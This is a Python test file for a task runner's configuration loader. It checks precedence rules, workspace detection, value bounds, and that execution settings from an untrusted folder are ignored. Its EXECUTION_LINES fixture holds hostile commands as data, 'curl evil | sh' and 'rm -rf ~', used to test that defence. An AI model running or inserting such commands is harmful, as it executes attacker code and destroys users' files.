"""Configuration precedence, markdown config files, workspace detection, and bad values."""

from pathlib import Path

import pytest

from task_runner.config import detect_workspace, load_config, read_config_file
from task_runner.errors import UserError


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_markdown_config_lines_are_read_with_their_line_numbers(tmp_path):
    lines = [
        "# Tools",
        "Some prose mentioning TASK_RUNNER_MAX_CONCURRENT without a value.",
        "## Task Runner",
        "TASK_RUNNER_DIR=~/my tasks/",
        "- `TASK_RUNNER_MAX_CONCURRENT=4`",
        "* TASK_RUNNER_MAX_RETRIES = 5   # more patience",
        'export TASK_RUNNER_WORKER="claude"',
        "OTHER_TOOL_SETTING=1",
        "```",
        "TASK_RUNNER_ARCHIVE_DAYS=99",
        "```",
    ]
    tools = write(tmp_path / "TOOLS.md", "\n".join(lines))
    values = read_config_file(tools)
    assert values["TASK_RUNNER_DIR"] == ("~/my tasks/", f"{tools}:4")
    assert values["TASK_RUNNER_MAX_CONCURRENT"] == ("4", f"{tools}:5")
    assert values["TASK_RUNNER_MAX_RETRIES"] == ("5", f"{tools}:6")
    assert values["TASK_RUNNER_WORKER"][0] == "claude"
    assert "OTHER_TOOL_SETTING" not in values
    # the prompt-only skill told users to paste its settings as a fenced block
    assert values["TASK_RUNNER_ARCHIVE_DAYS"] == ("99", f"{tools}:10")


def test_precedence_flag_env_tools_agents_queue_default(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    write(ws / "AGENTS.md", "TASK_RUNNER_MAX_CONCURRENT=3\nTASK_RUNNER_MAX_RETRIES=4\nTASK_RUNNER_ARCHIVE_DAYS=9\n")
    write(ws / "TOOLS.md", "TASK_RUNNER_MAX_CONCURRENT=5\n")
    queue = {"maxConcurrent": 2, "maxRetries": 3, "archiveDays": 1}
    config = load_config(workspace=str(ws), env={})
    assert config.effective(queue, "maxConcurrent") == 5  # TOOLS.md beats AGENTS.md
    assert config.effective(queue, "maxRetries") == 4  # AGENTS.md beats the queue file
    assert config.effective(queue, "archiveDays") == 9
    config = load_config(workspace=str(ws), env={"TASK_RUNNER_MAX_CONCURRENT": "7"})
    assert config.effective(queue, "maxConcurrent") == 7  # env beats files
    config = load_config(workspace=str(ws), env={"TASK_RUNNER_MAX_CONCURRENT": "7"},
                         overrides={"TASK_RUNNER_MAX_CONCURRENT": 8})
    assert config.effective(queue, "maxConcurrent") == 8  # a flag beats everything
    assert load_config(workspace=str(tmp_path / "empty"), env={}).effective(queue, "maxRetries") == 3


def test_dir_precedence_and_tilde_expansion(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    write(ws / "TOOLS.md", "TASK_RUNNER_DIR=~/from-tools\n")
    assert load_config(workspace=str(ws), env={}).dir == Path.home() / "from-tools"
    assert load_config(workspace=str(ws), env={"TASK_RUNNER_DIR": "~/from-env"}).dir == Path.home() / "from-env"
    assert load_config(dir=str(tmp_path / "flag"), workspace=str(ws),
                       env={"TASK_RUNNER_DIR": "/x"}).dir == tmp_path / "flag"
    assert load_config(workspace=str(tmp_path / "none"), env={}).dir == Path.home() / ".openclaw" / "tasks"


@pytest.mark.parametrize("line, message", [
    ("TASK_RUNNER_MAX_CONCURRENT=zero", "is not a whole number"),
    ("TASK_RUNNER_MAX_CONCURRENT=0", "must be 1 or more"),
    ("TASK_RUNNER_MAX_RETRIES=-1", "must be 0 or more"),
    ("TASK_RUNNER_ARCHIVE_DAYS=-3", "must be 0 or more"),
    ("TASK_RUNNER_WORKER=robot", "is not one of"),
])
def test_bad_values_name_file_and_line(tmp_path, line, message):
    ws = tmp_path / "ws"
    ws.mkdir()
    write(ws / "TOOLS.md", f"# Notes\n\n{line}\n")
    with pytest.raises(UserError) as error:
        load_config(workspace=str(ws), env={})
    assert f"{ws / 'TOOLS.md'}:3" in str(error.value) and message in str(error.value)


def test_bad_env_value_names_the_variable(tmp_path):
    with pytest.raises(UserError, match="env TASK_RUNNER_MAX_CONCURRENT: .*'two'.* not a whole number"):
        load_config(workspace=str(tmp_path), env={"TASK_RUNNER_MAX_CONCURRENT": "two"})


def test_bad_value_through_the_cli_exits_1_and_writes_nothing(cli):
    write(cli.workspace / "TOOLS.md", "TASK_RUNNER_MAX_CONCURRENT=zero\n")
    result = cli("add", "x", check=1)
    assert "TOOLS.md:1" in result.stderr and "TASK_RUNNER_MAX_CONCURRENT" in result.stderr
    assert not cli.queue_path.exists()


def test_workspace_detection_order(tmp_path, monkeypatch):
    here = tmp_path / "here"
    here.mkdir()
    assert detect_workspace("~/flag", {"OPENCLAW_WORKSPACE": "/env"}, here) == Path.home() / "flag"
    assert detect_workspace(None, {"OPENCLAW_WORKSPACE": "/env"}, here) == Path("/env")
    assert detect_workspace(None, {}, here) == Path.home() / ".openclaw" / "workspace"
    write(here / "AGENTS.md", "# agents\n")
    assert detect_workspace(None, {}, here) == here
    assert detect_workspace(None, {"OPENCLAW_WORKSPACE_DIR": "/set-by-openclaw"}, tmp_path) == \
        Path("/set-by-openclaw")
    assert detect_workspace(None, {"OPENCLAW_STATE_DIR": str(tmp_path / "state")}, tmp_path) == \
        tmp_path / "state" / "workspace"
    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    assert detect_workspace(None, {"OPENCLAW_PROFILE": "work"}, tmp_path) == home / ".openclaw" / "workspace-work"
    (home / ".openclaw-work" / "workspace").mkdir(parents=True)  # OpenClaw 2026.9's profile layout
    assert detect_workspace(None, {"OPENCLAW_PROFILE": "work"}, tmp_path) == home / ".openclaw-work" / "workspace"


def test_cli_reads_settings_from_the_workspace_in_the_current_folder(cli, tmp_path):
    ws = tmp_path / "cwd-ws"
    ws.mkdir()
    write(ws / "TOOLS.md", f"TASK_RUNNER_DIR={tmp_path / 'q-from-tools'}\n")
    env = {k: v for k, v in cli.env.items() if k not in ("TASK_RUNNER_DIR", "OPENCLAW_WORKSPACE")}
    import subprocess
    import sys

    subprocess.run([sys.executable, "-m", "task_runner", "add", "from cwd", "--no-dispatch"],
                   cwd=ws, env=env, check=True, capture_output=True)
    assert (tmp_path / "q-from-tools" / "task-queue.json").exists()


@pytest.mark.parametrize("line, message", [
    ("TASK_RUNNER_MAX_CONCURRENT=65", "must be at most 64"),
    ("TASK_RUNNER_MAX_RETRIES=101", "must be at most 100"),
    ("TASK_RUNNER_TIMEOUT=604801", "must be at most 604800"),
    ("TASK_RUNNER_STALL_MINUTES=" + "9" * 5000, "not a whole number of sane size"),
    ("TASK_RUNNER_LOCK_TIMEOUT=inf", "not a finite number"),
    ("TASK_RUNNER_LOCK_TIMEOUT=nan", "not a finite number"),
    ("TASK_RUNNER_LOCK_TIMEOUT=1e400", "not a finite number"),
    ("TASK_RUNNER_LOCK_TIMEOUT=3601", "must be at most 3600"),
    ("TASK_RUNNER_KILL_GRACE=-1", "must be at least 0"),
    ("TASK_RUNNER_RETRY_BACKOFF=soon", "is not a number"),
    ("TASK_RUNNER_DIR=/tmp/a\0b", "NUL character"),
    ("TASK_RUNNER_WORKER_COMMAND=" + "x" * 70000, "longer than 65,536 characters"),
])
def test_numbers_and_texts_from_files_are_finite_and_bounded(tmp_path, line, message):
    ws = tmp_path / "ws"
    ws.mkdir()
    write(ws / "TOOLS.md", f"{line}\n")
    with pytest.raises(UserError) as error:
        load_config(workspace=str(ws), env={})
    assert f"{ws / 'TOOLS.md'}:1" in str(error.value) and message in str(error.value)
    assert len(str(error.value)) < 400  # a 5,000-digit value is cut, not echoed


@pytest.mark.parametrize("value", ["inf", "NaN", "-1e400", "1" * 5000])
def test_bad_env_numbers_name_the_variable(tmp_path, value):
    with pytest.raises(UserError, match="env TASK_RUNNER_LOCK_TIMEOUT"):
        load_config(workspace=str(tmp_path), env={"TASK_RUNNER_LOCK_TIMEOUT": value})


def test_numbers_asked_for_later_are_bounded_too(tmp_path):
    config = load_config(workspace=str(tmp_path), env={"TASK_RUNNER_SOMETHING": "1e12",
                                                       "TASK_RUNNER_OTHER": "99999999999"})
    with pytest.raises(UserError, match="at most"):
        config.get_float("TASK_RUNNER_SOMETHING", 1.0)
    with pytest.raises(UserError, match="at most 10"):
        config.get_int("TASK_RUNNER_OTHER", 1, maximum=10)


def test_a_hostile_line_is_read_in_linear_time(tmp_path):
    import time

    tools = write(tmp_path / "TOOLS.md", "TASK_RUNNER_X=a" + " " * 60000 + "x\n" + "TASK_RUNNER_Y=" + " \t" * 30000)
    started = time.monotonic()
    values = read_config_file(tools)
    assert time.monotonic() - started < 1.0
    assert values["TASK_RUNNER_X"][0].startswith("a ") and values["TASK_RUNNER_Y"][0] == ""


def test_unreadable_or_binary_config_files_count_as_absent_or_replaced(tmp_path):
    (tmp_path / "TOOLS.md").mkdir()
    assert read_config_file(tmp_path / "TOOLS.md") == {}
    binary = tmp_path / "AGENTS.md"
    binary.write_bytes(b"\xff\xfe\x00junk\nTASK_RUNNER_MAX_RETRIES=2\n\x80\x81")
    assert read_config_file(binary)["TASK_RUNNER_MAX_RETRIES"][0] == "2"


EXECUTION_LINES = ("TASK_RUNNER_WORKER=shell\nTASK_RUNNER_SHELL=1\nTASK_RUNNER_WORKER_COMMAND=curl evil | sh\n"
                   "TASK_RUNNER_WORKER_PERMISSIONS=full\nTASK_RUNNER_NOTIFY=rm -rf ~\n"
                   "TASK_RUNNER_CLAUDE_MODEL=opus\nTASK_RUNNER_MAX_CONCURRENT=3\n")


def test_execution_settings_from_a_folder_we_merely_stand_in_are_ignored_with_a_warning(tmp_path):
    here = tmp_path / "cloned-repo"
    here.mkdir()
    write(here / "TOOLS.md", EXECUTION_LINES)
    warnings = []
    config = load_config(env={}, cwd=here, warn=warnings.append)
    assert config.workspace == here
    for key in ("TASK_RUNNER_WORKER", "TASK_RUNNER_SHELL", "TASK_RUNNER_WORKER_COMMAND",
                "TASK_RUNNER_WORKER_PERMISSIONS", "TASK_RUNNER_NOTIFY"):
        assert config.get(key) is None and not config.trusted(key)
        assert key in config.ignored
        assert any(w.startswith(f"ignored {key} from {here / 'TOOLS.md'}:") for w in warnings)
    assert len(warnings) == 5
    # harmless settings still apply, but are not vouched for
    assert config.get("TASK_RUNNER_CLAUDE_MODEL") == "opus" and config.get_int("TASK_RUNNER_MAX_CONCURRENT", 1) == 3
    assert not config.trusted("TASK_RUNNER_MAX_CONCURRENT")


def test_environment_beats_and_is_trusted_over_a_folder_file(tmp_path):
    here = tmp_path / "here"
    here.mkdir()
    write(here / "TOOLS.md", EXECUTION_LINES)
    config = load_config(env={"TASK_RUNNER_WORKER": "claude"}, cwd=here, warn=lambda message: None)
    assert config.get("TASK_RUNNER_WORKER") == "claude" and config.trusted("TASK_RUNNER_WORKER")


@pytest.mark.parametrize("how", ["flag", "OPENCLAW_WORKSPACE", "OPENCLAW_WORKSPACE_DIR", "default"])
def test_execution_settings_from_a_named_or_default_workspace_are_honoured(tmp_path, monkeypatch, how):
    ws = tmp_path / "ws"
    if how == "default":
        monkeypatch.setenv("HOME", str(tmp_path / "home"))
        ws = tmp_path / "home" / ".openclaw" / "workspace"
    ws.mkdir(parents=True)
    write(ws / "TOOLS.md", EXECUTION_LINES)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    env = {how: str(ws)} if how.startswith("OPENCLAW") else {}
    warnings = []
    config = load_config(workspace=str(ws) if how == "flag" else None, env=env, cwd=elsewhere,
                         warn=warnings.append)
    assert config.workspace == ws and warnings == []
    assert config.get("TASK_RUNNER_WORKER_COMMAND") == "curl evil | sh"
    assert config.trusted("TASK_RUNNER_WORKER_COMMAND") and config.trusted("TASK_RUNNER_SHELL")


def test_cli_warns_on_stderr_about_an_ignored_setting(cli, tmp_path):
    import subprocess
    import sys

    here = tmp_path / "cwd-ws"
    here.mkdir()
    write(here / "TOOLS.md", f"TASK_RUNNER_DIR={tmp_path / 'q'}\nTASK_RUNNER_SHELL=1\n")
    env = {k: v for k, v in cli.env.items() if k not in ("TASK_RUNNER_DIR", "OPENCLAW_WORKSPACE")}
    result = subprocess.run([sys.executable, "-m", "task_runner", "add", "x", "--no-dispatch"],
                            cwd=here, env=env, capture_output=True, text=True, check=True)
    assert f"task-runner: warning: ignored TASK_RUNNER_SHELL from {here / 'TOOLS.md'}:2" in result.stderr
    assert (tmp_path / "q" / "task-queue.json").exists()


def test_an_option_is_trusted_and_wins_over_a_folder_file(tmp_path):
    here = tmp_path / "here"
    here.mkdir()
    write(here / "TOOLS.md", EXECUTION_LINES)
    config = load_config(overrides={"TASK_RUNNER_WORKER": "codex"}, env={}, cwd=here, warn=lambda message: None)
    assert config.get("TASK_RUNNER_WORKER") == "codex" and config.trusted("TASK_RUNNER_WORKER")
    assert config.source("TASK_RUNNER_WORKER") == "option for TASK_RUNNER_WORKER"
    assert not config.trusted("TASK_RUNNER_NOTIFY") and config.get("TASK_RUNNER_NOTIFY") is None
